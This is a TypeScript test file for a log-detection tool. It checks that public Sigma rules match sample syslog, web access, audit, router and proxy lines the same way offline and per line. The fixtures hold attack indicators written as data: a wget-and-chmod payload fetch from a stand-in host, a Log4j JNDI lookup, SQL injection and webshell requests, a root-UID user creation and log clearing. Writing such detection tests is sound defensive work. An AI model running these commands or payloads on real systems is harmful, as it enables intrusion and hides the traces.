import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createLogFiles } from '../../collectors/files/index.ts'
import { createParser } from '../../collectors/index.ts'
import { splitRecords } from '../../collectors/records/split.ts'
import { RuleMatcher } from '../../detection/match/rule-matcher.ts'
import { detectFiles, findInputFiles, planDetect, type RuleTree, readRuleTree } from '../../detection/offline/index.ts'
import { sharedData } from '../support/requirements.ts'

const sigma = sharedData('sigma')

/** Lines of logs, and the public rules that say something of them. */
const samples: readonly (readonly [
  file: string,
  contentType: string,
  lines: readonly (readonly [string, ...string[]])[],
])[] = [
  [
    'auth.log',
    'text/plain',
    [
      ['Nov 28 10:00:00 web1 sshd[4711]: Failed password for root from 198.51.100.7 port 4242 ssh2'],
      ['Nov 28 10:00:01 web1 sshd[4711]: error: Corrupted MAC on input.', 'Suspicious OpenSSH Daemon Error'],
      [
        'Nov 28 10:00:02 web1 useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash',
        'Privileged User Has Been Created',
      ],
      [
        '<86>Nov 28 10:00:03 web1 sudo:  www-data : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c wget http://x/a; chmod +x /tmp/a',
        'Suspicious Activity in Shell Commands',
      ],
      ['<30>1 2026-11-28T10:00:04Z web1 named 99 - - client 10.0.0.1: FORMERR unexpected', ''],
      ['python -m SimpleHTTPServer 8000', 'Suspicious Activity in Shell Commands'],
    ],
  ],
  [
    'cron',
    'text/plain',
    [
      ['Nov 28 10:00:00 web1 crontab[9]: (eve) REPLACE (eve)', 'Modifying Crontab'],
      ['Nov 28 10:00:00 web1 CRON[9]: (root) CMD (run-parts /etc/cron.hourly)'],
    ],
  ],
  [
    'access.log',
    'text/plain',
    [
      [
        '203.0.113.9 - - [28/Nov/2026:10:00:00 +0000] "GET /up/s.aspx?q=whoami HTTP/1.1" 200 12 "-" "Mozilla/5.0"',
        'Windows Webshell Strings',
      ],
      [
        '203.0.113.9 - - [28/Nov/2026:10:00:00 +0000] "GET /?id=1%20UNION%20SELECT%20x HTTP/1.1" 200 12 "-" "sqlmap/1.7"',
        'SQL Injection Strings In URI',
      ],
      [
        '203.0.113.9 - - [28/Nov/2026:10:00:00 +0000] "GET /${jndi:ldap://x.example/a} HTTP/1.1" 404 0 "-" "-"',
        'Log4j RCE CVE-2021-44228 Generic',
      ],
      ['203.0.113.9 - - [28/Nov/2026:10:00:00 +0000] "GET /index.html HTTP/1.1" 200 12 "-" "Mozilla/5.0"'],
    ],
  ],
  [
    'audit.log',
    'text/plain',
    [
      [
        'type=SYSCALL msg=audit(1772359200.123:42): arch=c000003e syscall=59 success=yes exe="/usr/bin/wget" key="susp_activity"',
        'Suspicious C2 Activities',
      ],
      ['type=EXECVE msg=audit(1772359200.123:42): argc=3 a0="chmod" a1="777" a2="/tmp/x"', 'Suspicious Commands Linux'],
      [
        'type=PATH msg=audit(1772359200.123:43): item=0 name="/etc/ld.so.preload" nametype=NORMAL',
        'Modification of ld.so.preload',
      ],
      ['type=CWD msg=audit(1772359200.123:44): cwd="/srv"'],
    ],
  ],
  [
    'router.log',
    'text/plain',
    [
      [
        '<189>123: rtr1: *Nov 28 18:48:50.483 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:eve logged command:clear logging',
        'Cisco Clear Logs',
      ],
      [
        'Nov 28 18:48:50 10.0.0.1 123: rtr1: *Nov 28 18:48:50.483 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:eve logged command:clear archive',
        'Cisco Clear Logs',
      ],
    ],
  ],
  [
    'proxy.csv',
    'text/csv',
    [
      ['date,c-ip,cs-method,c-uri,c-useragent'],
      ['2026-11-28T10:00:00Z,10.0.0.7,GET,http://x.example/,Mozilla/4.0 (compatible; (hydra))', 'Hack Tool User Agent'],
      ['2026-11-28T10:00:00Z,10.0.0.7,GET,http://x.example/,Mozilla/5.0 (X11; Linux x86_64)'],
    ],
  ],
]

let folder: string
let tree: RuleTree
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'rampart-lines-'))
  if (sigma) tree = readRuleTree(sigma)
})
afterAll(() => rmSync(folder, { recursive: true }))

const titleOf = (id: string) => tree.ruleSet.rules.find(({ head }) => head.id === id)?.head.title ?? id

describe.skipIf(!sigma)('public rules over lines of text (needs ../shared/data)', () => {
  test.each(samples)('say of %s off line what they say on line', async (name, contentType, lines) => {
    const path = join(folder, name)
    const text = lines.map(([line]) => line).join('\n')
    writeFileSync(path, text)
    const offLine: string[] = []
    const { files } = findInputFiles([path], 0)
    const worker = new URL('../../cli/detect-worker.ts', import.meta.url)
    await detectFiles(tree.ruleSet, planDetect(files, { jobs: 1, logFiles: createLogFiles(), worker }), {
      correlations: false,
      onReady: () => undefined,
      onMatches: async (matches) => {
        offLine.push(...matches.map(({ line, rule }) => `${line} ${titleOf(rule)}`))
      },
      onProgress: () => undefined,
    })

    const body = Buffer.from(text)
    const { payloads, ...form } = await splitRecords({ contentType, contentEncoding: undefined, body })
    const parser = createParser()
    const matcher = new RuleMatcher(tree.ruleSet.rules)
    const headLines = contentType === 'text/csv' ? 1 : 0
    const onLine = payloads.flatMap((payload, offset) => {
      const { format, headers } = form
      const receivedAt = files[0]?.writtenAt ?? 0
      const { original, logsource, ocsf } = parser.parse({ offset, receivedAt, source: 'x', format, headers, payload })
      const numbers = matcher.match(original, logsource, ocsf)
      return numbers.map((number) => `${offset + headLines} ${tree.ruleSet.rules[number]?.head.title}`)
    })
    expect(offLine).toEqual(onLine)
    const expected = lines.flatMap(([, ...titles], line) => titles.filter(Boolean).map((title) => `${line} ${title}`))
    expect(offLine).toEqual(expect.arrayContaining(expected))
    const silent = lines.flatMap(([, ...titles], line) => (titles.length === 0 ? [`${line} `] : []))
    expect(offLine.filter((match) => silent.some((line) => match.startsWith(line)))).toEqual([])
  })
})
